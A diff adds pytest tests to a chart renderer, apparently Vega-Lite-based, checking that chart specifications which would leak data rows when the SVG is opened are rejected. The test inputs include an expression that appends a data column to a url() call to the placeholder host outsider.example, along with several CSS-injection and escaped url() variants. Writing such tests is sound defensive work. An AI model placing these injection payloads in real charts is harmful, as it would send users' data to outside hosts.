@@ -157,6 +157,36 @@ def test_image_is_loaded_from_no_place_of_a_specification(
     assert paths == []
 
 
+SENDS = "'url(http://outsider.example/?rows=' + pluck(data('source_0'), 'country') + '#a)'"
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"mark": {"type": "bar", "color": {"expr": SENDS}}},
+        {"mark": {"type": "bar", "blend": "multiply; background: url(http://outsider.example/)"}},
+        {"mark": {"type": "bar", "color": "u\\72l(http://outsider.example/#a)"}},
+        {"background": "image-set('http://outsider.example/' 1x)"},
+        {"config": {"view": {"stroke": "url(http://outsider.example/#a)"}}},
+        {"config": {"axis": {"labelFont": "x, url(http://outsider.example/)"}}},
+        {"mark": {"type": "bar", "color": {"gradient": "linear", "stops": [
+            {"offset": 0, "color": "red"}, {"offset": 1, "color": "url(http://outsider.example/)"}]}}},
+    ],
+)  # fmt: skip
+def test_svg_that_would_send_rows_when_it_is_opened_is_not_written(
+    renderer: ChartRenderer, changes: dict[str, Any]
+) -> None:
+    with pytest.raises(ChartError, match=r"could send its rows|cannot be drawn"):
+        renderer.render({**BARS, **changes}, COLUMNS, ROWS, ["svg"])
+
+
+def test_values_may_look_like_styles(renderer: ChartRenderer) -> None:
+    rows = [["url(http://x)", 1], ["a\\b", 2]]
+    assert {"url(http://x)", "a\\b"} <= set(
+        texts(renderer.render(BARS, COLUMNS, rows, ["svg"])["svg"])
+    )
+
+
 @pytest.mark.parametrize("place", ["top", "layer", "concat", "lookup"])
 def test_data_is_loaded_from_no_place_of_a_specification(
     renderer: ChartRenderer, tmp_path: Path, visited: tuple[str, list[str]], place: str
